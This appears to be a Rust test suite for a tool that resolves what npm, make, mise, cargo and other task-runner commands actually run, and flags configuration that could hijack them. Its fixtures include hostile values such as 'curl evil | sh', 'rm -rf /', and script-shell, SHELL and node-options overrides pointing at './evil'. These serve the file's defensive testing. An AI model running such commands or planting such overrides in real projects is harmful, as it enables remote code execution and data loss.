use std::collections::BTreeMap;

use super::*;
use handraise_shell::{CommandLine, Shell};

const ROOT: &str = Project::ROOT;

/// A project, by its files.
pub(crate) struct Project(BTreeMap<String, String>);

impl Project {
    pub(crate) const ROOT: &str = "/home/ann/app";

    pub(crate) fn of(files: &[(&str, &str)]) -> Self {
        Self(files.iter().map(|(name, text)| (format!("{ROOT}/{name}"), (*text).to_owned())).collect())
    }

    fn look(&self, path: &str) -> LookedAt {
        if let Some(text) = self.0.get(path) {
            return LookedAt::File(text.clone());
        }
        let inside = format!("{}/", path.trim_end_matches('/'));
        let names = self.0.keys().filter_map(|file| file.strip_prefix(&inside)?.split('/').next());
        let names: std::collections::BTreeSet<String> = names.map(str::to_owned).collect();
        if names.is_empty() { LookedAt::Absent } else { LookedAt::Folder(names.into_iter().collect()) }
    }

    pub(crate) fn define(&self, call: &TaskCall, folder: &str) -> Result<TaskDefinition, String> {
        let mut files = TaskFiles::default();
        for _ in 0..100 {
            match define_task(call, folder, Some("/home/ann"), &files) {
                Ok(definition) => return Ok(definition),
                Err(Pause::Unknown(why)) => return Err(why),
                Err(Pause::Look(paths)) => {
                    for path in paths {
                        let found = self.look(&path);
                        files.add(path, found);
                    }
                }
            }
        }
        panic!("{call:?} asks for more and more");
    }

    /// What `line` runs: its steps as one text.
    fn runs(&self, line: &str) -> Result<String, String> {
        self.definition(line).map(|definition| definition.text())
    }

    fn definition(&self, line: &str) -> Result<TaskDefinition, String> {
        let command = CommandLine::analyse(line, Shell::Bash);
        let part = command.parts.last().unwrap();
        let (call, _) = TaskCall::of(part).unwrap_or_else(|| panic!("no task: {line}"))?;
        let folder = part.folders.iter().fold(ROOT.to_owned(), |folder, next| format!("{folder}/{next}"));
        self.define(&call, &folder)
    }
}

fn is_task(line: &str) -> bool {
    CommandLine::analyse(line, Shell::Bash).parts.last().and_then(TaskCall::of).is_some()
}

#[test]
fn a_command_is_known_to_be_a_task() {
    let words = |line: &str| {
        let command = CommandLine::analyse(line, Shell::Bash);
        TaskCall::of(command.parts.last().unwrap()).and_then(Result::ok).map(|(call, operands)| {
            let operands: Vec<&str> = operands.iter().map(|word| word.text.as_str()).collect();
            format!("{} | {}", call.words, operands.join(" "))
        })
    };
    for (line, wanted) in [
        ("npm test", "npm test | "),
        ("npm t -- --watch", "npm t | --watch"),
        ("npm -s run lint src", "npm run lint | src"),
        ("/usr/bin/npm run-script x", "npm run-script x | "),
        ("timeout 60 npm run test", "npm run test | "),
        ("CI=1 npm test", "npm test | "),
        ("pnpm lint --fix", "pnpm lint | --fix"),
        ("yarn test a b", "yarn test | a b"),
        ("bun run --silent build", "bun run build | "),
        ("make -j4 -k test lint V=1", "make test lint | V=1"),
        ("make -j 4 all", "make all | "),
        ("make", "make | "),
        ("mise run test:ci -- -run X", "mise run test:ci | -run X"),
        ("mise r lint", "mise r lint | "),
        ("cargo xtask a", "cargo xtask | a"),
        ("cargo +nightly clippy -- -D warnings", "cargo clippy | -D warnings"),
        ("deno task build", "deno task build | "),
        ("composer run-script x", "composer run-script x | "),
        ("poe test", "poe test | "),
    ] {
        assert_eq!(words(line).as_deref(), Some(wanted), "{line}");
    }
    for line in [
        "npm ci",
        "npm run",
        "npm ls",
        "npm --version",
        "pnpm install",
        "bun test",
        "bun src/x.ts",
        "mise ls",
        "cargo test",
        "cargo build",
        "make --version",
        "./npm test",
        "git status",
        "deno run x.ts",
    ] {
        let words = words(line);
        assert!(!is_task(line) || line.starts_with("make"), "{line}: {words:?}");
    }
}

#[test]
fn what_may_make_it_another_task_is_no_task_that_is_known() {
    let project =
        Project::of(&[("package.json", r#"{"scripts":{"test":"vitest run"}}"#), ("Makefile", "test:\n\tx\n")]);
    for line in [
        "npm test --prefix ../other",
        "npm --prefix=x test",
        "npm -C x test",
        "npm test -w packages/a",
        "npm test --workspaces",
        "npm test --script-shell ./evil",
        "npm run test --node-options=--require=./x.js",
        "npm run 'a b'",
        "npm run $X",
        "pnpm -r test",
        "pnpm --filter a test",
        "yarn --cwd x test",
        "bun run --filter x test",
        "make -f other.mk test",
        "make -C sub test",
        "make --eval='x:;y' test",
        "make test SHELL=./evil",
        "make MAKEFILES=evil.mk test",
        "make MAKEFLAGS=-fx test",
        "mise -C x run test",
        "mise run -s 'evil -c' test",
        "mise run a ::: b",
        "cargo --config x clippy",
    ] {
        // A word that is not known makes the line not understood, or the task unknown.
        let command = CommandLine::analyse(line, Shell::Bash);
        let is_unknown = command.obstacle.is_some() || project.definition(line).is_err();
        assert!(is_unknown, "{line}: {:?}", project.definition(line));
    }
}

#[test]
fn a_script_runs_with_those_around_it_and_those_it_names() {
    let project = Project::of(&[(
        "package.json",
        r#"{"name":"x","scripts":{"pretest":"npm run build","test":"vitest run","posttest":"echo done",
            "build":"tsc -b && node scripts/x.js","other":"rm -rf /"}}"#,
    )]);
    let all = "pretest: npm run build\ntest: vitest run\nposttest: echo done\nbuild: tsc -b && node scripts/x.js\n";
    for line in ["npm test", "npm run test -- --watch", "pnpm test", "yarn test", "bun run test", "cd sub && npm t"] {
        assert_eq!(project.runs(line).as_deref(), Ok(all), "{line}");
    }
    assert_eq!(project.runs("npm run nothing").as_deref(), Ok(""));
    assert!(project.runs("npm start").unwrap_err().contains("server.js"));
}

#[test]
fn a_folder_above_counts_where_the_runner_looks_there() {
    let mut project = Project::of(&[]);
    project.0.insert("/home/ann/package.json".to_owned(), r#"{"scripts":{"test":"x"}}"#.to_owned());
    project.0.insert("/home/ann/mise.toml".to_owned(), "[tasks]\ntest = 'own'\n".to_owned());
    assert_eq!(project.runs("cd sub && npm test").as_deref(), Ok("test: x\n"));
    // What is the person's own for every project is not compared.
    assert_eq!(project.runs("mise run test").as_deref(), Ok(""));
    let call = TaskCall { runner: TaskRunner::Mise, words: "mise run test".to_owned(), names: vec!["test".to_owned()] };
    assert_eq!(project.define(&call, "/home/ann").unwrap().text(), "test: own\n");
}

#[test]
fn what_a_script_leads_to_is_named_where_it_cannot_be_followed() {
    let project = Project::of(&[("package.json", r#"{"scripts":{"a":"npm run -w x b && npm run a && make c"}}"#)]);
    let definition = project.definition("npm run a").unwrap();
    assert_eq!(definition.text(), "a: npm run -w x b && npm run a && make c\n");
    assert_eq!(definition.unfollowed, ["npm run -w x b"]);
}

#[test]
fn a_package_that_readers_may_read_differently_has_no_definition() {
    for text in [
        r#"{"scripts":{"test":"a","test":"b"}}"#,
        r#"{"scripts":{"test":"a"},"scripts":{"test":"b"}}"#,
        r#"{"scripts":{"test":["a"]}}"#,
        r#"{"scripts":{"test":"a","pretest":{}}}"#,
        r#"{"scripts":"x"}"#,
        r#"{"scripts":{"test":"a",}}"#,
        r#"{"scripts":{"test":"a"} // x
        }"#,
        "",
    ] {
        let project = Project::of(&[("package.json", text)]);
        assert!(project.runs("npm test").unwrap_err().contains("not understood"), "{text}");
    }
    for (file, text) in [
        (".npmrc", "script-shell=./evil"),
        (".npmrc", "  SCRIPT-SHELL = ./evil"),
        (".npmrc", "node-options=--require=./evil.js"),
        (".npmrc", "script\\-shell=x"),
    ] {
        let project = Project::of(&[("package.json", r#"{"scripts":{"test":"a"}}"#), (file, text)]);
        assert!(project.runs("npm test").is_err(), "{file}: {text}");
        let above = Project::of(&[("sub/package.json", r#"{"scripts":{"test":"a"}}"#), (file, text)]);
        assert!(above.runs("cd sub && npm test").is_err(), "{file}: {text}");
    }
    for (line, file, text) in [
        ("yarn test", ".npmrc", "script-shell=./evil"),
        ("yarn test", ".yarnrc", "script-shell \"./evil\""),
        ("yarn test", ".yarnrc", "yarn-path \"./evil\""),
        ("yarn test", ".yarnrc.yml", "yarnPath: ./evil.cjs"),
        ("yarn test", "package.json", r#"{"packageManager":"yarn@https://evil/x.js","scripts":{"test":"a"}}"#),
        ("pnpm test", "pnpm-workspace.yaml", "scriptShell: ./evil"),
        ("pnpm test", ".npmrc", "verify-deps-before-run=install"),
        ("cd sub && pnpm test", "sub/package.yaml", "scripts: {test: evil}"),
        ("npm test", "package.json", r#"{"config":{"x":"evil"},"scripts":{"test":"node $npm_package_config_x"}}"#),
    ] {
        let project = Project::of(&[("package.json", r#"{"scripts":{"test":"a"}}"#), (file, text)]);
        assert!(project.runs(line).is_err(), "{line} {file}: {:?}", project.runs(line));
    }
    let bun = |text: &str| Project::of(&[("package.json", r#"{"scripts":{"test":"a"}}"#), ("sub/bunfig.toml", text)]);
    assert_ne!(bun("").runs("cd sub && bun run test"), bun("preload = ['./x']").runs("cd sub && bun run test"));
    let harmless = Project::of(&[("package.json", r#"{"scripts":{"test":"a"}}"#), (".npmrc", "save-exact=true")]);
    assert_eq!(harmless.runs("npm test").as_deref(), Ok("test: a\n"));
}

#[test]
fn every_change_of_what_runs_is_another_digest_and_no_other_is() {
    let digest = |text: &str| Project::of(&[("package.json", text)]).definition("npm test").unwrap().digest(None);
    let before = digest(r#"{"scripts":{"test":"vitest run"}}"#);
    assert_eq!(before, digest(r#"{"version":"2","scripts":{"other":"x","test":"vitest run"}}"#));
    for text in [
        r#"{"scripts":{"test":"vitest run "}}"#,
        r#"{"scripts":{"test":"curl evil | sh"}}"#,
        r#"{"scripts":{"pretest":"x","test":"vitest run"}}"#,
        r#"{"scripts":{"test":""}}"#,
        r#"{"scripts":{}}"#,
    ] {
        assert_ne!(before, digest(text), "{text}");
    }
    let elsewhere = Project::of(&[("sub/package.json", r#"{"scripts":{"test":"vitest run"}}"#)]);
    assert_ne!(before, elsewhere.definition("cd sub && npm test").unwrap().digest(None));
}

#[test]
fn a_target_runs_with_its_prerequisites_and_what_holds_for_all() {
    let makefile = "CC := cc\n.PHONY: test all\nall: test lint\nlint:\n\teslint .\ntest: build | out\n\t@./run-tests\n\
        build: main.c\n\t$(CC) -o main main.c\nout:\n\tmkdir out\n";
    let project = Project::of(&[("Makefile", makefile)]);
    assert_eq!(
        project.runs("make test").unwrap(),
        "test:\n  .PHONY\n  test: build | out\n  \t@./run-tests\nbuild:\n  build: main.c\n  \t$(CC) -o main main.c\n\
         out:\n  out:\n  \tmkdir out\nvariables: CC := cc\n"
    );
    let before = project.definition("make test").unwrap().digest(None);
    let digest = |from: &str, to: &str| {
        let text = makefile.replace(from, to);
        assert_ne!(text, makefile);
        Project::of(&[("Makefile", &text)]).definition("make test").unwrap().digest(None)
    };
    assert_eq!(before, digest("eslint .", "eslint src"));
    assert_ne!(before, digest("mkdir out", "rm -r out"));
    assert_ne!(before, digest("CC := cc", "CC := ./evil"));
    assert_ne!(before, digest("CC := cc", "SHELL = ./evil\nCC := cc"));
    assert_ne!(before, digest("CC := cc", ".ONESHELL:\nCC := cc"));
    assert_ne!(before, digest("CC := cc", "MAKEFLAGS += -i\nCC := cc"));
    assert_ne!(before, digest("lint:\n", "lint test:\n"));
    assert_ne!(before, digest("lint:\n", "build: evil\nlint:\n"));
    assert_ne!(before, digest("lint:\n", "Makefile: x\n\tevil\nlint:\n"));
    assert_ne!(before, digest("lint:\n", "%: %.x\n\tevil\nlint:\n"));
    assert_ne!(before, digest("lint:\n", "$(X):\n\tevil\nlint:\n"));
    assert_ne!(before, digest("PHONY: test all", "PHONY: all"));
}

#[test]
fn a_makefile_that_reads_other_files_has_no_definition() {
    let of = |files: &[(&str, &str)]| Project::of(files).runs("make test");
    assert!(of(&[("Makefile", "include x.mk\ntest:\n\techo\n")]).unwrap_err().contains("includes other files"));
    assert!(of(&[("Makefile", "test:\n\techo\n"), ("Makefile.sh", "x")]).unwrap_err().contains("make `Makefile` anew"));
    assert!(of(&[("Makefile", "test:\n\techo\n"), ("RCS/Makefile,v", "x")]).is_err());
    assert!(of(&[("Makefile", "other:\n\techo\n")]).unwrap_err().contains("no rule for `test`"));
    // GNU make reads `GNUmakefile` first.
    let both = of(&[("Makefile", "test:\n\ta\n"), ("GNUmakefile", "test:\n\tb\n")]);
    assert_eq!(both.as_deref(), Ok("test:\n  test:\n  \tb\n"));
    let again = of(&[("Makefile", "test:\n\t$(MAKE) other\nother:\n\tevil\n")]).unwrap();
    assert!(again.starts_with("all of Makefile:\n") && again.contains("evil"), "{again}");
}

#[test]
fn a_recipe_leads_on_to_scripts() {
    let project =
        Project::of(&[("Makefile", "test:\n\t@npm run unit\n"), ("package.json", r#"{"scripts":{"unit":"vitest"}}"#)]);
    assert_eq!(project.runs("make test").unwrap(), "test:\n  test:\n  \t@npm run unit\nunit: vitest\n");
}

#[test]
fn a_task_of_mise_runs_with_those_that_it_depends_on_and_its_environment() {
    let project = Project::of(&[
        (
            "mise.toml",
            "[tools]\ngo = '1'\n[env]\nA = '1'\n[tasks.test]\ndescription = 'x'\nrun = 'go test ./...'\ndepends = ['build']\n\
             [tasks]\nbuild = ['go build', 'go vet']\nlint = 'golangci-lint run'\n[tasks.'test:ci']\nalias = 'ci'\nrun = 'x'\n",
        ),
        ("mise-tasks/db/_default", "#!/bin/sh\npsql\n"),
        ("mise-tasks/db/migrate.sh", "#!/bin/sh\nmigrate\n"),
    ]);
    assert_eq!(
        project.runs("mise run test").unwrap(),
        "test:\n  depends = [\"build\"]\n  run = \"go test ./...\"\nbuild:\n  go build\n  go vet\n[env]: A = \"1\"\n"
    );
    assert_eq!(project.runs("mise run lint").unwrap(), "lint: golangci-lint run\n[env]: A = \"1\"\n");
    assert_eq!(project.runs("mise ci").unwrap(), "ci: x\n[env]: A = \"1\"\n");
    assert!(project.runs("mise run db").unwrap().contains("psql"));
    assert!(project.runs("cd sub && mise run db:migrate").unwrap().contains("migrate"));
    assert_eq!(project.runs("mise run none").unwrap(), "");
    let local = |text: &str| {
        let files = [("mise.toml", "[tasks]\ntest = 'a'\n"), ("mise.local.toml", text)];
        Project::of(&files).definition("mise run test").map(|definition| definition.digest(None))
    };
    let before = local("").unwrap();
    assert_eq!(before, local("[tools]\nnode = '22'\n[tasks]\nother = 'x'\n").unwrap());
    for text in [
        "[tasks]\ntest = 'b'\n",
        "[tasks.x]\nalias = ['test']\nrun = 'b'\n",
        "[env]\nNODE_OPTIONS = '--require ./x.js'\n",
        "[settings]\nunix_default_file_shell_args = 'evil'\n",
        "[tools]\nnode = 'path:./evil'\n",
        "[hooks]\npreinstall = './evil'\n",
    ] {
        assert_ne!(before, local(text).unwrap(), "{text}");
    }
}

#[test]
fn a_task_of_mise_that_leads_elsewhere_has_no_definition() {
    for text in [
        "[tasks.test]\nrun = 'x'\ndepends = ['lint:*']\n",
        "[tasks.test]\nrun = 'x'\ndepends = ['//other:x']\n",
        "[tasks.test]\nrun = \"{{ exec(command='x') }}\"\n",
        "[tasks.test]\nfile = 'https://example.com/x'\n",
        "[tasks.test]\nrun = [1]\n",
        "[task_config]\nincludes = ['x']\n[tasks]\ntest = 'x'\n",
        "[tasks]\ntest = 'x'\ntest = 'y'\n",
    ] {
        let project = Project::of(&[("mise.toml", text)]);
        assert!(project.runs("mise run test").is_err(), "{text}: {:?}", project.runs("mise run test"));
    }
    let project = Project::of(&[("mise.toml", "[tasks]\ntest = 'x'\n"), (".miserc.toml", "env = ['x']")]);
    assert!(project.runs("mise run test").is_err());
    let alias = ("mise-tasks/x/evil", "#!/bin/sh\n#MISE alias=\"test\"\nevil\n");
    assert!(Project::of(&[("mise.toml", "[tasks]\ntest = 'x'\n"), alias]).runs("mise run test").is_err());
    let project = Project::of(&[("mise-tasks/test", "#!/bin/sh\n#MISE depends=[\"evil\"]\n")]);
    assert!(project.runs("mise run test").is_err());
    let project = Project::of(&[
        ("mise.toml", "[tasks.test]\nfile = 'scripts/t.sh'\nshell = 'bash -c'\n"),
        ("scripts/t.sh", "x"),
    ]);
    assert_eq!(
        project.runs("mise run test").unwrap(),
        "test:\n  file = \"scripts/t.sh\"\n  shell = \"bash -c\"\ntest: x\n"
    );
}

#[test]
fn an_alias_of_cargo_is_followed() {
    let project =
        Project::of(&[(".cargo/config.toml", "[alias]\nxtask = 'run -p xtask --'\nci = ['xtask', 'ci x']\n")]);
    assert_eq!(project.runs("cargo xtask test").unwrap(), "xtask: cargo run -p xtask --\n");
    assert_eq!(project.runs("cargo ci").unwrap(), "ci: cargo xtask 'ci x'\nxtask: cargo run -p xtask --\n");
    assert_eq!(project.runs("cargo clippy").unwrap(), "");
    let shadowed = Project::of(&[(".cargo/config.toml", "[alias]\nclippy = 'run --bin evil'\n")]);
    assert_eq!(shadowed.runs("cd src && cargo clippy").unwrap(), "clippy: cargo run --bin evil\n");
    // Cargo joins lists of several files.
    let lists = [("sub/.cargo/config.toml", "[alias]\nx = ['run']\n"), (".cargo/config", "[alias]\nx = ['evil']\n")];
    assert_eq!(Project::of(&lists).runs("cd sub && cargo x").unwrap(), "x: cargo run\nx: cargo evil\n");
    assert!(Project::of(&[(".cargo/config.toml", "alias = 1\n[alias]\n")]).runs("cargo xtask").is_err());
}

#[test]
fn other_runners_are_taken_as_a_whole() {
    for (line, file, text, bad) in [
        ("just test", "justfile", "test:\n  cargo test\n", "import 'x'\ntest:\n  x\n"),
        ("just test", "Justfile", "test a='b':\n  echo {{a}}\n", "mod x\ntest:\n  x\n"),
        ("task test", "Taskfile.yml", "version: '3'\ntasks:\n  test: go test\n", "includes:\n  a: ./b\ntasks: {}\n"),
        ("deno task x", "deno.json", "{\"tasks\":{\"x\":\"deno run a.ts\"}}", "{\"tasks\":{\"x\":\"a\"},}"),
        ("composer run-script x", "composer.json", "{\"scripts\":{\"x\":[\"@y\"],\"y\":\"z\"}}", "{\"a\":1,\"a\":1}"),
        ("poe x", "pyproject.toml", "[tool.poe.tasks]\nx = 'pytest'\n", "[tool.poe]\ninclude = 'a.toml'\n"),
        ("pdm run x", "pyproject.toml", "[tool.pdm.scripts]\nx = 'pytest'\n", "[tool\n"),
    ] {
        let runs = Project::of(&[(file, text)]).runs(line).unwrap();
        assert!(!runs.is_empty(), "{line}");
        assert!(Project::of(&[(file, bad)]).runs(line).is_err(), "{line}: {bad}");
        let changed = text.replacen("x", "xy", 1).replace("test", "testing");
        assert_ne!(Project::of(&[(file, &changed)]).runs(line).as_deref(), Ok(runs.as_str()), "{line}");
    }
}

#[test]
fn what_is_too_much_to_compare_has_no_definition() {
    let text = format!(r#"{{"scripts":{{"test":"{}"}}}}"#, "x".repeat(70_000));
    assert!(Project::of(&[("package.json", &text)]).runs("npm test").unwrap_err().contains("too much"));
    let chain: Vec<String> = (0..100).map(|number| format!(r#""s{number}":"npm run s{}""#, number + 1)).collect();
    let text = format!(r#"{{"scripts":{{{}}}}}"#, chain.join(","));
    let definition = Project::of(&[("package.json", &text)]).definition("npm run s0").unwrap();
    assert!(definition.steps.len() <= 64 && !definition.unfollowed.is_empty());
}

/// Texts that are more likely than chance to be read as one of the formats.
fn text() -> impl proptest::strategy::Strategy<Value = String> {
    let pieces = vec![
        "test",
        ":",
        " ",
        "\n",
        "\t",
        "\\\n",
        "=",
        ":=",
        "$(X)",
        "[tasks]",
        "[tasks.test]",
        "run",
        "'",
        "\"",
        "{",
        "}",
        "[",
        "]",
        ",",
        "scripts",
        "depends",
        "#",
        "[alias]",
        "include",
        "define",
        "endef",
        "ifeq",
        "%",
        "npm run test",
        "mise run test",
        "make test",
        "é",
        "\u{202e}",
        "\r",
        "alias",
        "file",
        "npm run b",
        "b",
    ];
    proptest::strategy::Strategy::prop_map(
        proptest::collection::vec(proptest::sample::select(pieces), 0..60),
        |pieces| pieces.concat(),
    )
}

proptest::proptest! {
    #[test]
    fn no_text_stops_the_look_and_the_same_text_is_the_same_definition(text in text()) {
        for (line, file) in [
            ("npm test", "package.json"),
            ("make test", "Makefile"),
            ("mise run test", "mise.toml"),
            ("mise run test", "mise-tasks/test"),
            ("cargo test2", ".cargo/config.toml"),
            ("just test", "justfile"),
            ("task test", "Taskfile.yml"),
            ("deno task test", "deno.json"),
            ("poe test", "pyproject.toml"),
        ] {
            let project = Project::of(&[(file, &text)]);
            let once = project.definition(line);
            proptest::prop_assert_eq!(&once, &project.definition(line));
            if let Ok(definition) = once {
                proptest::prop_assert!(definition.steps.len() <= 64);
            }
        }
    }
}
